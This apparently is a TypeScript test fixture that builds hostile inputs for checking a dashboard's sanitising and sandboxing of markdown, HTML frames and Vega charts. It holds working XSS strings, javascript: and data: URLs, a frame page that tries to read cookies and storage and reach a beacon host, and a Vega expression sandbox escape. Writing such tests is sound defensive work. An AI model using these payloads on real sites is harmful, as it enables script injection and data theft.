/** A text that takes the page over wherever it gets into it as HTML; `taken` tells from where. */
export const hostile = (place: string): string =>
  `${place} "'><img src=x onerror="taken('${place}')"><svg onload=taken('${place}')><script>taken('${place}')</script>`

/** The same without a slash, for what is a part of an address. */
export const hostileName = (place: string): string => `${place} "'><img src=x onerror=taken('${place}')>`
const links = ['javascript:taken("link")', 'jav&#x09;ascript:taken("link")', 'data:text/html,<script>taken()</script>']

/** HTML in a text, addresses that run something, and what would be fetched from elsewhere. */
export const hostileMarkdown = (place: string, beacon: string): string =>
  [
    `# ${hostile(place)}`,
    ...links.flatMap((url) => [`[link](${url})`, `[link](<${url}>)`, `![picture](${url})`, `<${url}>`]),
    `[reference][1]`,
    `![picture](${beacon}/markdown.png)`,
    `<iframe src="${beacon}/markdown"></iframe><style>@import "${beacon}/markdown.css"</style>`,
    `<form action="${beacon}/markdown"><button>Send</button></form><base href="${beacon}/"><object data="${beacon}/o">`,
    `[1]: javascript:taken("reference") "${hostile('title')}"`,
  ].join('\n\n')

/** Everything that a script in a frame may try to get out of it; `told` says that it has tried. */
export const hostilePage = (beacon: string, own: string): string => `<!doctype html>
<link rel="stylesheet" href="${beacon}/sheet.css"><script src="${beacon}/script.js"></script><img src="${beacon}/picture.png">
<style>@import "${beacon}/import.css"; @font-face { font-family: f; src: url("${beacon}/font") } body { font-family: f }</style>
<iframe src="${beacon}/frame"></iframe><iframe src="${own}/?jupyter=true"></iframe><object data="${beacon}/object"></object>
<video src="${beacon}/film"></video><link rel="prefetch" href="${beacon}/prefetch"><base href="${beacon}/">
<form id="form" action="${beacon}/form" method="post" target="_top"></form>
<a id="top" href="${beacon}/top" target="_top" ping="${beacon}/ping">out</a><a id="blank" href="${beacon}/blank" target="_blank">out</a>
<p id="told">nothing ran</p>
<script>
  const got = []
  const tries = {
    parent: () => parent.document.title,
    top: () => { top.taken('frame') },
    storage: () => localStorage.getItem('x'),
    cookie: () => document.cookie,
    modal: () => { if (confirm('dialog')) throw 0; alert('dialog'); prompt('dialog'); throw 0 },
    navigate: () => { top.location = '${beacon}/top-location' },
    open: () => { if (open('${beacon}/open') === null) throw 0 },
    worker: () => { new Worker(URL.createObjectURL(new Blob(['fetch("${beacon}/worker")']))) ; throw 0 },
    beacon: () => { navigator.sendBeacon('${beacon}/send-beacon'); throw 0 },
    picture: () => { new window.Image().src = '${beacon}/new-image'; throw 0 },
    socket: () => { new WebSocket('${beacon}/socket'.replace('http', 'ws')); throw 0 },
    events: () => { new EventSource('${beacon}/events'); throw 0 },
    form: () => { document.getElementById('form').submit(); throw 0 },
    click: () => { document.getElementById('top').click(); document.getElementById('blank').click(); throw 0 },
  }
  for (const [name, attempt] of Object.entries(tries)) {
    try { attempt(); got.push(name) } catch {}
  }
  const asks = ['${beacon}/fetch', '${own}/api/status'].map((url) => fetch(url, { mode: 'no-cors' }).then(() => got.push(url), () => {}))
  const imports = import('${beacon}/import.js').then(() => got.push('import'), () => {})
  Promise.all([...asks, imports]).then(() => {
    document.getElementById('told').textContent = origin + ' got: ' + got.join(', ')
  })
</script>`

/** Two that leave for another address by themselves. */
export const leaving = (beacon: string): readonly string[] => [
  `<p>leaves</p><script>location = '${beacon}/location'</script>`,
  `<meta http-equiv="refresh" content="0; url=${beacon}/refresh"><p>refreshes</p>`,
]

export const hostileSvg = (beacon: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="taken('svg')"><script>taken('svg')</script><image href="${beacon}/svg"/></svg>`

const hostileMarks = (beacon: string): readonly object[] => [
  {
    type: 'image',
    encode: { enter: { url: { value: `${beacon}/vega.png` }, width: { value: 10 }, height: { value: 10 } } },
  },
  {
    type: 'rect',
    from: { data: 'wandb' },
    encode: {
      enter: {
        width: { value: 200 },
        height: { value: 100 },
        fill: { value: 'red' },
        href: { value: 'javascript:taken("vega")' },
        tooltip: { value: hostile('vega tooltip') },
      },
    },
  },
]

/** Specs of charts that reach out of their chart, or run something, each in its way. */
export const hostileSpecs = (beacon: string): Readonly<Record<string, object>> => {
  const spec = { $schema: 'https://vega.github.io/schema/vega/v6.json', width: 200, height: 100 }
  const run = 'taken(\\"vega\\")'
  const expr = `toString.constructor && [].constructor.constructor("${run}")()`
  return {
    loading: { ...spec, data: [{ name: 'wandb', url: `${beacon}/vega.json` }] },
    formula: {
      ...spec,
      data: [{ name: 'wandb' }, { name: 'made', values: [{ a: 1 }], transform: [{ type: 'formula', as: 'b', expr }] }],
    },
    signal: {
      ...spec,
      data: [{ name: 'wandb' }],
      signals: [{ name: 's', on: [{ events: 'mousemove', update: `event.view && event.view.eval("${run}")` }] }],
    },
    marks: { ...spec, data: [{ name: 'wandb' }], marks: hostileMarks(beacon) },
  }
}
